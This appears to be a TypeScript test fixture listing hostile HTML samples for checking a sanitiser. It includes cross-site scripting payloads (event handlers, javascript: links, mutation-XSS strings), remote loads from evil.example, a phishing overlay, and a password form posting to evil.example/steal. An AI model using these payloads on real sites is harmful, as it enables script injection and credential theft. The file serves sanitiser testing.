/** HTML that tries to run, to load, to leave its place or to pretend. `evil.example` is asked for nothing. */
export const hostileHtml: Readonly<Record<string, string>> = {
  "a script": "<script>window.ran = 1</script><script src=https://evil.example/a.js></script>",
  "handlers of events":
    '<img src=x onerror="window.ran=1"><body onload="window.ran=1"><details open ontoggle="window.ran=1"><summary>x</summary></details><p onmouseover=window.ran=1 autofocus onfocus=window.ran=1 tabindex=0>x</p>',
  "addresses that run":
    '<a id=run href="javascript:window.ran=1">x</a><a href="  java\tscript:window.ran=1">x</a><a href="&#106;avascript:window.ran=1">x</a><a href="data:text/html,<script>window.ran=1</script>">x</a><a href="vbscript:x">x</a>',
  "frames and objects":
    '<iframe srcdoc="<script>parent.ran=1</script>"></iframe><iframe src=https://evil.example></iframe><object data=https://evil.example/o></object><embed src=https://evil.example/e><applet code=x></applet><frameset><frame src=https://evil.example></frameset>',
  "a way to elsewhere":
    '<meta http-equiv=refresh content="0;url=https://evil.example/refresh"><base href="https://evil.example/"><link rel=stylesheet href=https://evil.example/s.css><link rel=prefetch href=https://evil.example/p>',
  "pictures that are fetched":
    '<img src=https://evil.example/1.gif><img srcset="https://evil.example/2.gif 1x" src=""><picture><source srcset=https://evil.example/3.gif><img></picture><table background=https://evil.example/4.gif><tr><td background=https://evil.example/5.gif>x</td></tr></table><video poster=https://evil.example/6.gif src=https://evil.example/6.mp4 autoplay></video><audio src=https://evil.example/7.mp3 autoplay></audio><input type=image src=https://evil.example/8.gif><img src="//evil.example/9.gif">',
  "styles that load":
    "<style>@import 'https://evil.example/i.css'; body { background: url(https://evil.example/b.gif) } @font-face { font-family: f; src: url(https://evil.example/f.woff) } p { font-family: f }</style><p style=\"background:url('https://evil.example/p.gif')\">x</p><div style=\"background-image:image-set('https://evil.example/q.gif' 1x)\">x</div><ul style=\"list-style-image:url(https://evil.example/l.gif)\"><li>x</li></ul>",
  "a layer over the page":
    '<div id=layer style="position:fixed;inset:0;z-index:99999;background:red">Please sign in again</div><div style="position:absolute;top:-500px;left:-500px;width:9999px;height:9999px">x</div><p style="margin:-1000px 0 0 -1000px">x</p><p style="transform:translate(-900px,-900px) scale(20)">x</p><p style="float:right;width:4000px">x</p>',
  "styles for the page":
    "<style>* { display: none !important } #outside { color: red !important }</style><p class='frame outside' id=outside>x</p>",
  "a form":
    "<form action=https://evil.example/steal method=post><label>Password <input name=password type=password></label><button>Sign in</button><textarea>x</textarea><select><option>x</select></form><button form=other formaction=https://evil.example/f>x</button>",
  "pictures that run":
    '<svg onload="window.ran=1"><script>window.ran=1</script><a xlink:href="javascript:window.ran=1"><text>x</text></a><image href=https://evil.example/svg.gif /><use href=https://evil.example/u.svg#a /><animate onbegin=window.ran=1 attributeName=x dur=1s></svg><img src="data:image/svg+xml,<svg xmlns=\'http://www.w3.org/2000/svg\' onload=\'parent.ran=1\'/>">',
  formulas:
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.ran=1&gt;"></math><math href="javascript:window.ran=1">x</math>',
  "words that change when they are read twice":
    '<noscript><p title="</noscript><img src=x onerror=window.ran=1>"></noscript><svg></p><style><a id="</style><img src=1 onerror=window.ran=1>"><form><math><mtext></form><form><mglyph><style></math><img src onerror=window.ran=1>',
  "tags that never end": '<img src="x" onerror="window.ran=1" <p>x<a href="https://evil.example/?',
  "comments that end early":
    "<!--><img src=x onerror=window.ran=1>--><!-- --!><img src=x onerror=window.ran=1> --><![CDATA[<img src=x onerror=window.ran=1>]]>",
  "ends of what it stands in":
    "</div></div></main></body></html></script></style></textarea></title><script>window.ran=1</script>",
  templates:
    "<template><script>window.ran=1</script></template><xmp><img src=x onerror=window.ran=1></xmp><plaintext><img src=x onerror=window.ran=1>",
  "names of our own":
    '<p id=main name=body class="button alert said-bold evil" data-controller=x data-turbo-frame=_top is=x slot=x>x</p><img name=cookie><form name=body><input name=nodeName></form>',
  "a link that lies":
    '<a href="https://evil.example/login">https://bank.example/login</a><a href="https://evil.example" target=_top title="https://bank.example" ping=https://evil.example/ping download>x</a>',
  "a long word": `<p>${"x".repeat(20_000)}</p><img width=9999 height=9999 alt=x><table><tr>${"<td>wide</td>".repeat(300)}</tr></table>`,
};
